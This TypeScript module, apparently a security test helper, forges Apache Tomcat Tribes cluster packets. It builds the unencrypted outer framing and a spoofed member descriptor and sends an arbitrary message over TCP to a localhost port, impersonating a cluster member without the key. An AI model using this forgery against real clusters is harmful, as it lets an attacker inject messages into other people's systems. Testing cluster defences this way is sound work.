/** Packets of Tomcat's cluster as somebody without the key sends them: their outer form is not encrypted, so anybody can write it. */
import { createConnection } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const int = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32BE(value);
  return bytes;
};
const long = (value: number): Buffer => {
  const bytes = Buffer.alloc(8);
  bytes.writeBigInt64BE(BigInt(value));
  return bytes;
};
const sized = (content: Buffer): Buffer => Buffer.concat([int(content.length), content]);
const mark = (text: string): Buffer => Buffer.concat([Buffer.from(text, 'ascii'), Buffer.from([1, 0])]);

/** @param member the last number of its uniqueId, as the release's server.xml has it */
function memberOf(port: number, member: number): Buffer {
  const uniqueId = Buffer.alloc(16);
  uniqueId[15] = member;
  const host = Buffer.from([127, 0, 0, 1]);
  const [noSecurePort, noUdpPort, nothing] = [int(-1), int(-1), int(0)];
  const body = [long(1_000), int(port), noSecurePort, noUdpPort, Buffer.from([host.length]), host, nothing, nothing, uniqueId, nothing];
  return Buffer.concat([mark('TRIBES-B'), sized(Buffer.concat(body)), mark('TRIBES-E')]);
}

/** In a member's name. @param message what the key should open */
export function forgedPacket(port: number, member: number, message: Buffer): Buffer {
  const acknowledgedAndSynchronous = 6;
  const id = Buffer.from(crypto.getRandomValues(new Uint8Array(16)));
  const data = [int(acknowledgedAndSynchronous), long(Date.now()), sized(id), sized(memberOf(port, member)), sized(message)];
  return Buffer.concat([Buffer.from('FLT2002', 'ascii'), sized(Buffer.concat(data)), Buffer.from('TLF2003', 'ascii')]);
}

/** Settles when the other side has had time to read it. */
export async function sendRaw(port: number, packet: Buffer): Promise<void> {
  const socket = createConnection({ port, host: '127.0.0.1' });
  socket.on('error', () => {});
  socket.write(packet);
  await sleep(300);
  socket.destroy();
}
